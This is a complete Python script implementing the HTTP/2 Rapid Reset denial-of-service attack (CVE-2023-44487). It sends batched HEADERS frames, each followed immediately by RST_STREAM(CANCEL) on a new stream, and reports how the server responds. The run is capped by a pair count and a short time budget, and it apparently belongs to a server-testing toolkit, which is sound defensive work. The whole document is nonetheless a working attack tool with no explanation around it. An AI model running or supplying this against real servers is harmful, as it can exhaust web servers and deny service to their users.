#!/usr/bin/python3
"""Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) on new streams, in batches, until the server ends
the connection, the count is reached or the time budget runs out."""
import time

from h2wire import Conn, RstStreamFrame, common_args, frame_bytes

p = common_args(__doc__)
p.add_argument("--path", default="/small.txt")
p.add_argument("--count", type=int, default=20000, help="HEADERS+RST_STREAM pairs at most")
p.add_argument("--batch", type=int, default=100)
a = p.parse_args()
c = Conn(a)
c.wait(lambda: c.server_settings, 2)
sent = 0
deadline = time.monotonic() + min(a.seconds, 10)
while sent < a.count and not c.ended() and time.monotonic() < deadline:
    frames = []
    for _ in range(a.batch):
        sid = c.new_stream_id()
        frames += [c.headers_frame(sid, a.path), RstStreamFrame(sid, error_code=8)]
    if not c.send_raw(frame_bytes(frames)):
        break
    sent += a.batch
    c.pump(0)
c.wait(c.ended, 2)
c.report(pairs_sent=sent, responses=sum(1 for s in c.streams.values() if s.status is not None))
